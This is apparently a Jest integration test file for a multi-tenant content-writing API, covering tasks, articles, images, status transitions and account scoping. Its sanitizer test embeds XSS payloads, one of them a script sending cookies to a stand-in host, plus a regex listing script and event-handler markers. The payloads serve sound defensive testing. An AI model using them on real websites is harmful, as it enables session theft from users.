import request from 'supertest';
import { addTenant, bearer, type Tenant } from './fixtures';
import { startTestCloud, type TestCloud } from './support';
import { addWriterContent, type WriterFixtures } from './writer-fixtures';

/**
 * The Writer module: tasks, content and images, scoped to the caller's
 * account, site and sector; status changes by the transition table; article
 * HTML sanitized with plain text and word count derived; one featured image.
 */
describe( 'the writer', () => {
	let cloud: TestCloud;
	let a: Tenant;
	let b: Tenant;
	let bRows: WriterFixtures;
	/** A second sector on A's site, and a sector on A's second site. */
	let otherSector: number;
	let otherSite: number;
	let otherSiteSector: number;

	const api = ( path: string ) => `/api/v1${ path }`;
	const as = ( tenant: Tenant ) => bearer( tenant.owner );
	const post = ( path: string, body: object, tenant = a ) =>
		request( cloud.app )
			.post( api( path ) )
			.set( as( tenant ) )
			.send( body );
	const patch = ( path: string, body: object, tenant = a ) =>
		request( cloud.app )
			.patch( api( path ) )
			.set( as( tenant ) )
			.send( body );
	const get = ( path: string, tenant = a ) =>
		request( cloud.app ).get( api( path ) ).set( as( tenant ) );
	const ids = ( body: { results: { id: number }[] } ) =>
		body.results.map( ( r ) => r.id );

	const counts = async () => {
		const { models } = cloud.context;
		return {
			tasks: await models.Task.count(),
			content: await models.Content.count(),
			images: await models.Image.count(),
		};
	};

	beforeAll( async () => {
		cloud = await startTestCloud( { db: 'postgres', queue: 'inline' } );
		a = await addTenant( cloud, 'Writer A' );
		b = await addTenant( cloud, 'Writer B' );
		bRows = await addWriterContent( cloud, b, 'Bravo' );
		otherSector = (
			await post( '/auth/sectors/', {
				site_id: a.siteId,
				name: 'Second',
			} ).expect( 201 )
		).body.data.id;
		otherSite = (
			await post( '/auth/sites/', {
				name: 'Writer A second site',
			} ).expect( 201 )
		).body.data.id;
		otherSiteSector = (
			await post( '/auth/sectors/', {
				site_id: otherSite,
				name: 'Main',
			} ).expect( 201 )
		).body.data.id;
	} );
	afterAll( async () => {
		await cloud?.stop();
	} );

	/** Planner rows made straight in the database (the planner has its own tests). */
	async function plannerRows( sectorId: number, siteId: number, tenant = a ) {
		const { models } = cloud.context;
		const scope = {
			account_id: tenant.accountId,
			site_id: siteId,
			sector_id: sectorId,
		};
		const cluster = await models.Cluster.create( {
			...scope,
			name: `Cluster ${ Math.random() }`,
		} );
		const idea = await models.Idea.create( {
			...scope,
			cluster_id: cluster.id,
			title: 'An idea',
			target_word_count: null,
		} );
		return { clusterId: cluster.id, ideaId: idea.id };
	}

	describe( 'tasks', () => {
		it( 'creates a task with defaults and answers its full shape', async () => {
			const response = await post( '/writer/tasks/', {
				sector_id: a.sectorId,
				title: '  Best trail shoes  ',
				target_keywords: [ 'trail shoes' ],
			} ).expect( 201 );
			expect( response.body.data ).toEqual( {
				id: expect.any( Number ),
				account_id: a.accountId,
				site_id: a.siteId,
				sector_id: a.sectorId,
				content_idea_id: null,
				cluster_id: null,
				title: 'Best trail shoes',
				brief: '',
				target_keywords: [ 'trail shoes' ],
				status: 'pending',
				assigned_post_id: null,
				post_url: null,
				content_id: null,
				created_at: expect.any( String ),
				updated_at: expect.any( String ),
			} );
			const read = await get(
				`/writer/tasks/${ response.body.data.id }/`
			).expect( 200 );
			expect( read.body.data ).toEqual( response.body.data );
		} );

		it( 'takes the cluster of the idea it comes from, and allows one task per idea', async () => {
			const { clusterId, ideaId } = await plannerRows(
				a.sectorId,
				a.siteId
			);
			const first = await post( '/writer/tasks/', {
				sector_id: a.sectorId,
				title: 'From idea',
				content_idea_id: ideaId,
			} ).expect( 201 );
			expect( first.body.data ).toMatchObject( {
				content_idea_id: ideaId,
				cluster_id: clusterId,
			} );
			const before = await counts();
			const second = await post( '/writer/tasks/', {
				sector_id: a.sectorId,
				title: 'Again',
				content_idea_id: ideaId,
			} ).expect( 400 );
			expect( second.body.errors ).toEqual( {
				content_idea_id: [
					`idea ${ ideaId } already has task ${ first.body.data.id }`,
				],
			} );
			expect( await counts() ).toEqual( before );
		} );

		it( 'refuses an idea or cluster of another account or sector, naming each field, and writes nothing', async () => {
			const theirs = await plannerRows( b.sectorId, b.siteId, b );
			const elsewhere = await plannerRows( otherSector, a.siteId );
			const cases: [ object, Record< string, string[] > ][] = [
				[
					{ content_idea_id: theirs.ideaId },
					{
						content_idea_id: [
							`idea ${ theirs.ideaId } does not exist`,
						],
					},
				],
				[
					{ cluster_id: theirs.clusterId },
					{
						cluster_id: [
							`cluster ${ theirs.clusterId } does not exist`,
						],
					},
				],
				[
					{ content_idea_id: elsewhere.ideaId },
					{
						content_idea_id: [
							`idea ${ elsewhere.ideaId } is in another sector`,
						],
					},
				],
				[
					{
						content_idea_id: theirs.ideaId,
						cluster_id: elsewhere.clusterId,
					},
					{
						content_idea_id: [
							`idea ${ theirs.ideaId } does not exist`,
						],
						cluster_id: [
							`cluster ${ elsewhere.clusterId } is in another sector`,
						],
					},
				],
			];
			const before = await counts();
			for ( const [ extra, errors ] of cases ) {
				const response = await post( '/writer/tasks/', {
					sector_id: a.sectorId,
					title: 'Linked',
					...extra,
				} ).expect( 400 );
				expect( response.body ).toMatchObject( {
					success: false,
					code: 'validation_error',
					errors,
				} );
			}
			const mine = (
				await post( '/writer/tasks/', {
					sector_id: a.sectorId,
					title: 'Mine',
				} ).expect( 201 )
			).body.data;
			const moved = await patch( `/writer/tasks/${ mine.id }/`, {
				cluster_id: theirs.clusterId,
				title: 'Changed',
			} ).expect( 400 );
			expect( moved.body.errors ).toEqual( {
				cluster_id: [ `cluster ${ theirs.clusterId } does not exist` ],
			} );
			expect(
				( await get( `/writer/tasks/${ mine.id }/` ) ).body.data
			).toEqual( mine );
			expect( ( await counts() ).tasks ).toBe( before.tasks + 1 );
		} );

		it.each( [
			[ 'a missing title', {}, { title: [ 'this field is required' ] } ],
			[
				'a blank title',
				{ title: '   ' },
				{ title: [ 'may not be blank' ] },
			],
			[
				'an unknown status',
				{ title: 'T', status: 'done' },
				{ status: [ expect.stringContaining( 'Invalid option' ) ] },
			],
			[
				'a javascript: post URL',
				{ title: 'T', post_url: 'javascript:alert(1)' },
				{ post_url: [ 'must be a valid http(s) URL' ] },
			],
			[
				'a derived field',
				{ title: 'T', content_id: 5 },
				{ content_id: [ 'is not a recognised field' ] },
			],
			[
				'keywords that are not a list',
				{ title: 'T', target_keywords: 'a, b' },
				{
					target_keywords: [
						expect.stringContaining( 'expected array' ),
					],
				},
			],
		] )(
			'answers %s with 400 per field and writes nothing',
			async ( _label, body, errors ) => {
				const before = await counts();
				const response = await post( '/writer/tasks/', {
					sector_id: a.sectorId,
					...body,
				} ).expect( 400 );
				expect( response.body.errors ).toEqual( errors );
				expect( await counts() ).toEqual( before );
			}
		);

		it( 'refuses a sector of another account as a missing one', async () => {
			const response = await post( '/writer/tasks/', {
				sector_id: b.sectorId,
				title: 'Sneaky',
			} ).expect( 400 );
			expect( response.body.errors ).toEqual( {
				sector_id: [ `sector ${ b.sectorId } does not exist` ],
			} );
		} );

		describe( 'status changes', () => {
			const ALLOWED: Record< string, string[] > = {
				pending: [ 'in_progress', 'completed' ],
				in_progress: [ 'pending', 'completed' ],
				completed: [ 'in_progress', 'published' ],
				published: [ 'completed' ],
			};
			const STATUSES = Object.keys( ALLOWED );
			const cases = STATUSES.flatMap( ( from ) =>
				STATUSES.filter( ( to ) => to !== from ).map(
					( to ) =>
						[ from, to, ALLOWED[ from ]!.includes( to ) ] as const
				)
			);

			it.each( cases )(
				'%s → %s allowed: %s',
				async ( from, to, allowed ) => {
					const task = (
						await post( '/writer/tasks/', {
							sector_id: a.sectorId,
							title: `Moving ${ from }`,
							status: from,
						} ).expect( 201 )
					).body.data;
					const response = await patch(
						`/writer/tasks/${ task.id }/`,
						{ status: to, title: 'Renamed too' }
					);
					if ( allowed ) {
						expect( response.status ).toBe( 200 );
						expect( response.body.data ).toMatchObject( {
							status: to,
							title: 'Renamed too',
						} );
						return;
					}
					expect( response.status ).toBe( 400 );
					expect( response.body.errors ).toEqual( {
						status: [
							`cannot change from "${ from }" to "${ to }"; allowed: ${ ALLOWED[ from ]!.map( ( s ) => `"${ s }"` ).join( ', ' ) }`,
						],
					} );
					expect(
						( await get( `/writer/tasks/${ task.id }/` ) ).body.data
					).toEqual( task );
				}
			);

			it( 'accepts the same status again as no change', async () => {
				const task = (
					await post( '/writer/tasks/', {
						sector_id: a.sectorId,
						title: 'Same',
						status: 'published',
					} ).expect( 201 )
				).body.data;
				await patch( `/writer/tasks/${ task.id }/`, {
					status: 'published',
				} ).expect( 200 );
			} );
		} );
	} );

	describe( 'content', () => {
		const HOSTILE =
			'<h2 onclick="steal()">Trail shoes</h2><p>Grip &amp; comfort<script>document.location="https://evil.test/?c="+document.cookie</script></p>' +
			'<img src="x" onerror="alert(1)"><a href="javascript:alert(1)">click</a><iframe src="https://evil.test"></iframe>' +
			'<svg onload="alert(1)"></svg><p style="color:red">Run   far</p>';

		it( 'stores sanitized HTML with plain text and word count derived, and never returns the hostile parts', async () => {
			const created = await post( '/writer/content/', {
				sector_id: a.sectorId,
				title: 'Shoes',
				content_html: HOSTILE,
			} ).expect( 201 );
			const expected = {
				content_html:
					'<h2>Trail shoes</h2><p>Grip &amp; comfort</p><img src="x" /><a>click</a><p>Run   far</p>',
				content_plain: 'Trail shoes\nGrip & comfort\nclick\nRun far',
				word_count: 7,
			};
			expect( created.body.data ).toMatchObject( expected );
			const read = await get(
				`/writer/content/${ created.body.data.id }/`
			).expect( 200 );
			const list = await get( `/writer/content/?search=Shoes` ).expect(
				200
			);
			for ( const body of [ created.text, read.text, list.text ] ) {
				expect( body ).not.toMatch(
					/<script|onerror|onclick|onload|javascript:|<iframe|<svg|style=/i
				);
			}
			const row = await cloud.context.models.Content.findByPk(
				created.body.data.id
			);
			expect( row!.get( { plain: true } ) ).toMatchObject( expected );
		} );

		it( 'derives again on every write, and keeps the article when only other fields change', async () => {
			const created = (
				await post( '/writer/content/', {
					sector_id: a.sectorId,
					title: 'Draft',
					content_html: '<p>one two</p>',
				} ).expect( 201 )
			).body.data;
			const renamed = await patch( `/writer/content/${ created.id }/`, {
				title: 'Renamed',
				sync_status: 'synced',
			} ).expect( 200 );
			expect( renamed.body.data ).toMatchObject( {
				title: 'Renamed',
				sync_status: 'synced',
				content_html: '<p>one two</p>',
				content_plain: 'one two',
				word_count: 2,
			} );
			const rewritten = await request( cloud.app )
				.put( api( `/writer/content/${ created.id }/` ) )
				.set( as( a ) )
				.send( {
					content_html:
						'<p>我喜欢写作</p><ul><li>well-known</li></ul><script>x</script>',
				} )
				.expect( 200 );
			expect( rewritten.body.data ).toMatchObject( {
				content_html: '<p>我喜欢写作</p><ul><li>well-known</li></ul>',
				content_plain: '我喜欢写作\nwell-known',
				word_count: 4,
			} );
		} );

		it( 'sanitizes the excerpt too and keeps the meta description as text', async () => {
			const created = await post( '/writer/content/', {
				sector_id: a.sectorId,
				title: 'Meta',
				excerpt:
					'<p>Short <em>intro</em><img src=x onerror=alert(1)></p>',
				meta_description:
					'<b>Buy</b> shoes &amp; socks<script>alert(1)</script>',
			} ).expect( 201 );
			expect( created.body.data ).toMatchObject( {
				excerpt: '<p>Short <em>intro</em><img src="x" /></p>',
				meta_description: 'Buy shoes & socks',
			} );
		} );

		it( 'keeps the SEO title and focus keyphrase as one line of text, and a PATCH of them keeps the other attributes', async () => {
			const created = await post( '/writer/content/', {
				sector_id: a.sectorId,
				title: 'SEO',
				attributes: {
					generated_by_run: 7,
					meta_title: '  <b>Tomato</b>\n seeds  ',
					focus_keyphrase: 'tomato <i>seeds</i>',
				},
			} ).expect( 201 );
			expect( created.body.data.attributes ).toEqual( {
				generated_by_run: 7,
				meta_title: 'Tomato seeds',
				focus_keyphrase: 'tomato seeds',
			} );
			const changed = await patch(
				`/writer/content/${ created.body.data.id }/`,
				{
					meta_description: 'How to start tomato seeds.',
					attributes: { meta_title: 'Start tomato seeds indoors' },
				}
			).expect( 200 );
			expect( changed.body.data ).toMatchObject( {
				meta_description: 'How to start tomato seeds.',
				attributes: {
					generated_by_run: 7,
					meta_title: 'Start tomato seeds indoors',
					focus_keyphrase: 'tomato seeds',
				},
			} );
		} );

		it( 'never accepts derived fields from the client', async () => {
			const before = await counts();
			const response = await post( '/writer/content/', {
				sector_id: a.sectorId,
				title: 'Cheat',
				content_plain: 'lies',
				word_count: 99999,
			} ).expect( 400 );
			expect( response.body.errors ).toEqual( {
				content_plain: [ 'is not a recognised field' ],
				word_count: [ 'is not a recognised field' ],
			} );
			expect( await counts() ).toEqual( before );
		} );

		it.each( [
			[
				'an unknown entity type',
				{ entity_type: 'video' },
				'entity_type',
			],
			[
				'an unknown sync status',
				{ sync_status: 'lost' },
				'sync_status',
			],
			[
				'an oversized meta description',
				{ meta_description: 'x'.repeat( 321 ) },
				'meta_description',
			],
			[
				'an oversized SEO title',
				{ attributes: { meta_title: 'x'.repeat( 301 ) } },
				'attributes.meta_title',
			],
			[
				'a focus keyphrase that is not text',
				{ attributes: { focus_keyphrase: [ 'tomato' ] } },
				'attributes.focus_keyphrase',
			],
			[
				'taxonomies that are not lists',
				{ taxonomies: { category: 'news' } },
				'taxonomies.category',
			],
		] )(
			'answers %s with 400 naming the field, writing nothing',
			async ( _label, extra, field ) => {
				const before = await counts();
				const response = await post( '/writer/content/', {
					sector_id: a.sectorId,
					title: 'Bad',
					...extra,
				} ).expect( 400 );
				expect( Object.keys( response.body.errors ) ).toEqual( [
					field,
				] );
				expect( await counts() ).toEqual( before );
			}
		);

		it( 'links one content to one task of the same sector, shown on the task', async () => {
			const task = (
				await post( '/writer/tasks/', {
					sector_id: a.sectorId,
					title: 'Needs content',
				} ).expect( 201 )
			).body.data;
			const content = (
				await post( '/writer/content/', {
					sector_id: a.sectorId,
					task_id: task.id,
					title: 'Written',
				} ).expect( 201 )
			).body.data;
			expect( content.task_id ).toBe( task.id );
			expect(
				( await get( `/writer/tasks/${ task.id }/` ) ).body.data
					.content_id
			).toBe( content.id );

			const before = await counts();
			const twice = await post( '/writer/content/', {
				sector_id: a.sectorId,
				task_id: task.id,
				title: 'Again',
			} ).expect( 400 );
			expect( twice.body.errors ).toEqual( {
				task_id: [ `task ${ task.id } already has content` ],
			} );
			const spare = (
				await post( '/writer/content/', {
					sector_id: a.sectorId,
					title: 'Spare',
				} ).expect( 201 )
			).body.data;
			const steal = await patch( `/writer/content/${ spare.id }/`, {
				task_id: task.id,
				title: 'Stolen',
			} ).expect( 400 );
			expect( steal.body.errors ).toEqual( {
				task_id: [ `task ${ task.id } already has content` ],
			} );
			expect(
				( await get( `/writer/content/${ spare.id }/` ) ).body.data
			).toEqual( spare );
			await patch( `/writer/content/${ content.id }/`, {
				task_id: task.id,
			} ).expect( 200 );

			const elsewhere = (
				await post( '/writer/tasks/', {
					sector_id: otherSector,
					title: 'Elsewhere',
				} ).expect( 201 )
			).body.data;
			const cases: [ number, string ][] = [
				[ bRows.taskId, `task ${ bRows.taskId } does not exist` ],
				[ elsewhere.id, `task ${ elsewhere.id } is in another sector` ],
				[ 987654, 'task 987654 does not exist' ],
			];
			for ( const [ taskId, message ] of cases ) {
				const response = await post( '/writer/content/', {
					sector_id: a.sectorId,
					task_id: taskId,
					title: 'Linked',
				} ).expect( 400 );
				expect( response.body.errors ).toEqual( {
					task_id: [ message ],
				} );
			}
			expect( ( await counts() ).content ).toBe( before.content + 1 );
		} );
	} );

	describe( 'images', () => {
		const url = ( n: number ) => `https://cdn.example.test/${ n }.png`;
		const featured = async ( where: string ) =>
			(
				await get(
					`/writer/images/?${ where }&is_featured=true`
				).expect( 200 )
			).body.results.map( ( r: { id: number } ) => r.id );

		it( 'keeps one featured image per content and per content-less task', async () => {
			const task = (
				await post( '/writer/tasks/', {
					sector_id: a.sectorId,
					title: 'Illustrated',
				} ).expect( 201 )
			).body.data;
			const content = (
				await post( '/writer/content/', {
					sector_id: a.sectorId,
					task_id: task.id,
					title: 'Illustrated',
				} ).expect( 201 )
			).body.data;
			const other = (
				await post( '/writer/content/', {
					sector_id: a.sectorId,
					title: 'Other',
				} ).expect( 201 )
			).body.data;
			const image = async ( extra: object ) =>
				(
					await post( '/writer/images/', {
						sector_id: a.sectorId,
						image_url: url( 1 ),
						...extra,
					} ).expect( 201 )
				).body.data;

			const first = await image( {
				content_id: content.id,
				is_featured: true,
			} );
			expect( first ).toMatchObject( {
				content_id: content.id,
				task_id: task.id,
				is_featured: true,
			} );
			const second = await image( {
				content_id: content.id,
				position: 1,
			} );
			const elsewhere = await image( {
				content_id: other.id,
				is_featured: true,
			} );
			const taskOnly = await image( {
				task_id: (
					await post( '/writer/tasks/', {
						sector_id: a.sectorId,
						title: 'No content',
					} )
				).body.data.id,
				is_featured: true,
			} );

			await patch( `/writer/images/${ second.id }/`, {
				is_featured: true,
			} ).expect( 200 );
			expect( await featured( `content_id=${ content.id }` ) ).toEqual( [
				second.id,
			] );
			expect( await featured( `content_id=${ other.id }` ) ).toEqual( [
				elsewhere.id,
			] );
			expect( await featured( `task_id=${ taskOnly.task_id }` ) ).toEqual(
				[ taskOnly.id ]
			);

			const third = await image( {
				content_id: content.id,
				is_featured: true,
				position: 2,
			} );
			expect( await featured( `content_id=${ content.id }` ) ).toEqual( [
				third.id,
			] );
			// Moving a featured image onto other content takes the feature with it.
			await patch( `/writer/images/${ third.id }/`, {
				content_id: other.id,
			} ).expect( 200 );
			expect( await featured( `content_id=${ other.id }` ) ).toEqual( [
				third.id,
			] );
		} );

		it( 'leaves the featured image alone when a change is refused', async () => {
			const content = (
				await post( '/writer/content/', {
					sector_id: a.sectorId,
					title: 'Kept',
				} ).expect( 201 )
			).body.data;
			const kept = (
				await post( '/writer/images/', {
					sector_id: a.sectorId,
					content_id: content.id,
					image_url: url( 2 ),
					is_featured: true,
				} ).expect( 201 )
			).body.data;
			const newcomer = (
				await post( '/writer/images/', {
					sector_id: a.sectorId,
					content_id: content.id,
					image_url: url( 3 ),
				} ).expect( 201 )
			).body.data;
			const refused = await patch( `/writer/images/${ newcomer.id }/`, {
				is_featured: true,
				task_id: bRows.taskId,
			} ).expect( 400 );
			expect( refused.body.errors ).toEqual( {
				task_id: [ `task ${ bRows.taskId } does not exist` ],
			} );
			expect( await featured( `content_id=${ content.id }` ) ).toEqual( [
				kept.id,
			] );
		} );

		it( 'refuses a task or content of another account or sector, or a content of a different task', async () => {
			const mine = (
				await post( '/writer/tasks/', {
					sector_id: a.sectorId,
					title: 'Mine',
				} ).expect( 201 )
			).body.data;
			const linked = (
				await post( '/writer/content/', {
					sector_id: a.sectorId,
					task_id: mine.id,
					title: 'Linked',
				} ).expect( 201 )
			).body.data;
			const other = (
				await post( '/writer/tasks/', {
					sector_id: a.sectorId,
					title: 'Other',
				} ).expect( 201 )
			).body.data;
			const far = (
				await post( '/writer/content/', {
					sector_id: otherSector,
					title: 'Far',
				} ).expect( 201 )
			).body.data;
			const cases: [ object, Record< string, string[] > ][] = [
				[
					{ content_id: bRows.contentId },
					{
						content_id: [
							`content ${ bRows.contentId } does not exist`,
						],
					},
				],
				[
					{ task_id: bRows.taskId },
					{ task_id: [ `task ${ bRows.taskId } does not exist` ] },
				],
				[
					{ content_id: far.id },
					{
						content_id: [
							`content ${ far.id } is in another sector`,
						],
					},
				],
				[
					{ content_id: linked.id, task_id: other.id },
					{
						content_id: [
							`content ${ linked.id } belongs to task ${ mine.id }, not task ${ other.id }`,
						],
					},
				],
				[
					{ image_url: 'javascript:alert(1)' },
					{ image_url: [ 'must be a valid http(s) URL' ] },
				],
				[
					{ image_url: undefined },
					{ image_url: [ 'this field is required' ] },
				],
				[
					{ position: -1 },
					{ position: [ expect.stringContaining( '>=0' ) ] },
				],
			];
			const before = await counts();
			for ( const [ extra, errors ] of cases ) {
				const response = await post( '/writer/images/', {
					sector_id: a.sectorId,
					image_url: url( 4 ),
					...extra,
				} ).expect( 400 );
				expect( response.body.errors ).toEqual( errors );
			}
			expect( await counts() ).toEqual( before );
		} );

		it( 'lists by position and filters by task and content', async () => {
			const content = (
				await post( '/writer/content/', {
					sector_id: a.sectorId,
					title: 'Gallery',
				} ).expect( 201 )
			).body.data;
			const made: number[] = [];
			for ( const position of [ 3, 1, 2 ] ) {
				made.push(
					(
						await post( '/writer/images/', {
							sector_id: a.sectorId,
							content_id: content.id,
							image_url: url( position ),
							position,
						} ).expect( 201 )
					).body.data.id
				);
			}
			const listed = await get(
				`/writer/images/?content_id=${ content.id }`
			).expect( 200 );
			expect( ids( listed.body ) ).toEqual( [
				made[ 1 ],
				made[ 2 ],
				made[ 0 ],
			] );
			const reversed = await get(
				`/writer/images/?content_id=${ content.id }&ordering=-position`
			).expect( 200 );
			expect( ids( reversed.body ) ).toEqual( [
				made[ 0 ],
				made[ 2 ],
				made[ 1 ],
			] );
		} );
	} );

	describe( 'lists', () => {
		let listSector: number;
		const made: Record< string, number > = {};

		beforeAll( async () => {
			listSector = (
				await post( '/auth/sectors/', {
					site_id: a.siteId,
					name: 'Lists',
				} ).expect( 201 )
			).body.data.id;
			const { clusterId } = await plannerRows( listSector, a.siteId );
			const rows: [ string, object ][] = [
				[ 'delta', { status: 'pending' } ],
				[ 'alpha', { status: 'completed', cluster_id: clusterId } ],
				[ 'Charlie', { status: 'in_progress', cluster_id: clusterId } ],
				[ 'bravo', { status: 'pending' } ],
			];
			for ( const [ title, extra ] of rows ) {
				made[ title ] = (
					await post( '/writer/tasks/', {
						sector_id: listSector,
						title: `${ title } task`,
						...extra,
					} ).expect( 201 )
				).body.data.id;
			}
			made.clusterId = clusterId;
			const words = [ 'one', 'one two three', 'one two' ];
			for ( const [ i, text ] of words.entries() ) {
				made[ `content${ i }` ] = (
					await post( '/writer/content/', {
						sector_id: listSector,
						title: `Article ${ i }`,
						content_html: `<p>${ text }</p>`,
						sync_status: i === 1 ? 'published' : 'draft',
						entity_type: i === 2 ? 'page' : 'post',
						task_id: i === 0 ? made.delta : undefined,
					} ).expect( 201 )
				).body.data.id;
			}
		} );

		it.each( [
			[
				'title order, ignoring case',
				'ordering=title',
				[ 'alpha', 'bravo', 'Charlie', 'delta' ],
			],
			[
				'reverse title order',
				'ordering=-title',
				[ 'delta', 'Charlie', 'bravo', 'alpha' ],
			],
			[
				'status, then id',
				'ordering=status,id',
				[ 'alpha', 'Charlie', 'delta', 'bravo' ],
			],
			[
				'newest first by default',
				'',
				[ 'bravo', 'Charlie', 'alpha', 'delta' ],
			],
			[
				'a status filter',
				'status=pending&ordering=title',
				[ 'bravo', 'delta' ],
			],
			[
				'a cluster filter',
				'cluster_id=CLUSTER&ordering=title',
				[ 'alpha', 'Charlie' ],
			],
			[ 'a title search', 'search=ARLI', [ 'Charlie' ] ],
			[
				'a second page',
				'ordering=title&page_size=3&page=2',
				[ 'delta' ],
			],
		] )( 'returns tasks in %s', async ( _label, query, titles ) => {
			const response = await get(
				`/writer/tasks/?sector_id=${ listSector }&${ query.replace( 'CLUSTER', String( made.clusterId ) ) }`
			).expect( 200 );
			expect( ids( response.body ) ).toEqual(
				titles.map( ( t ) => made[ t ] )
			);
		} );

		it( 'pages with counts and links', async () => {
			const first = await get(
				`/writer/tasks/?sector_id=${ listSector }&ordering=title&page_size=3`
			).expect( 200 );
			expect( first.body ).toMatchObject( {
				count: 4,
				previous: null,
				next: expect.stringContaining( 'page=2' ),
			} );
			expect( ids( first.body ) ).toEqual( [
				made.alpha,
				made.bravo,
				made.Charlie,
			] );
		} );

		it.each( [
			[ 'sync status', 'sync_status=published', [ 1 ] ],
			[ 'entity type', 'entity_type=page', [ 2 ] ],
			[ 'task', 'task_id=TASK', [ 0 ] ],
			[ 'word count order', 'ordering=-word_count', [ 1, 2, 0 ] ],
		] )( 'filters content by %s', async ( _label, query, which ) => {
			const response = await get(
				`/writer/content/?sector_id=${ listSector }&${ query.replace( 'TASK', String( made.delta ) ) }`
			).expect( 200 );
			expect( ids( response.body ) ).toEqual(
				which.map( ( i ) => made[ `content${ i }` ] )
			);
		} );

		it( 'refuses an unknown ordering field', async () => {
			const response = await get(
				'/writer/tasks/?ordering=brief'
			).expect( 400 );
			expect( response.body.errors.ordering[ 0 ] ).toMatch(
				/cannot order by "brief"/
			);
		} );
	} );

	describe.each( [ 'tasks', 'content', 'images' ] )(
		'scoping of /writer/%s/',
		( resource ) => {
			const theirs = () =>
				( {
					tasks: bRows.taskId,
					content: bRows.contentId,
					images: bRows.imageId,
				} )[ resource ]!;
			const bodies: Record< string, object > = {
				tasks: { title: 'Hijacked' },
				content: { title: 'Hijacked' },
				images: { alt_text: 'Hijacked' },
			};

			it( 'answers 404 to every read, change and delete of another account’s row, and changes nothing', async () => {
				const { models } = cloud.context;
				const model = {
					tasks: models.Task,
					content: models.Content,
					images: models.Image,
				}[ resource ] as typeof models.Task;
				const before = ( await model.findByPk( theirs() ) )!.get( {
					plain: true,
				} );
				for ( const method of [
					'get',
					'put',
					'patch',
					'delete',
				] as const ) {
					const response = await request( cloud.app )
						[ method ](
							api( `/writer/${ resource }/${ theirs() }/` )
						)
						.set( as( a ) )
						.send( bodies[ resource ] );
					expect( {
						method,
						status: response.status,
						code: response.body.code,
					} ).toEqual( { method, status: 404, code: 'not_found' } );
				}
				expect(
					( await model.findByPk( theirs() ) )!.get( { plain: true } )
				).toEqual( before );
			} );

			it( 'never lists another account’s rows', async () => {
				await addWriterContent( cloud, a, `Alpha ${ resource }` );
				const response = await get(
					`/writer/${ resource }/?page_size=100`
				).expect( 200 );
				const accounts = new Set(
					response.body.results.map(
						( r: { account_id: number } ) => r.account_id
					)
				);
				expect( accounts ).toEqual( new Set( [ a.accountId ] ) );
				expect( ids( response.body ) ).not.toContain( theirs() );
			} );

			it.each( [
				[
					'a sector of another site',
					() =>
						`site_id=${ a.siteId }&sector_id=${ otherSiteSector }`,
					() => ( {
						sector_id: [
							`sector ${ otherSiteSector } does not belong to site ${ a.siteId }`,
						],
					} ),
				],
				[
					'another account’s sector',
					() => `sector_id=${ b.sectorId }`,
					() => ( {
						sector_id: [ `sector ${ b.sectorId } does not exist` ],
					} ),
				],
				[
					'another account’s site',
					() => `site_id=${ b.siteId }`,
					() => ( {
						site_id: [ `site ${ b.siteId } does not exist` ],
					} ),
				],
			] )(
				'answers a list filtered by %s with 400',
				async ( _label, query, errors ) => {
					const response = await get(
						`/writer/${ resource }/?${ query() }`
					).expect( 400 );
					expect( response.body.errors ).toEqual( errors() );
				}
			);

			it( 'narrows the list to a site and a sector', async () => {
				const response = await get(
					`/writer/${ resource }/?site_id=${ otherSite }`
				).expect( 200 );
				expect( response.body.results ).toEqual( [] );
				const mine = await get(
					`/writer/${ resource }/?site_id=${ a.siteId }&sector_id=${ a.sectorId }&page_size=100`
				).expect( 200 );
				expect( mine.body.count ).toBeGreaterThan( 0 );
				expect(
					new Set(
						mine.body.results.map(
							( r: { sector_id: number } ) => r.sector_id
						)
					)
				).toEqual( new Set( [ a.sectorId ] ) );
			} );

			it( 'lets a site key read within its site but not write', async () => {
				const key = { 'X-IGNY8-API-Key': b.apiKey };
				const listed = await request( cloud.app )
					.get( api( `/writer/${ resource }/` ) )
					.set( key )
					.expect( 200 );
				expect( ids( listed.body ) ).toContain( theirs() );
				expect(
					new Set(
						listed.body.results.map(
							( r: { site_id: number } ) => r.site_id
						)
					)
				).toEqual( new Set( [ b.siteId ] ) );
				await request( cloud.app )
					.get( api( `/writer/${ resource }/${ theirs() }/` ) )
					.set( key )
					.expect( 200 );
				await request( cloud.app )
					.patch( api( `/writer/${ resource }/${ theirs() }/` ) )
					.set( key )
					.send( bodies[ resource ] )
					.expect( 401 );
				const foreign = { 'X-IGNY8-API-Key': a.apiKey };
				await request( cloud.app )
					.get( api( `/writer/${ resource }/${ theirs() }/` ) )
					.set( foreign )
					.expect( 404 );
			} );
		}
	);
} );
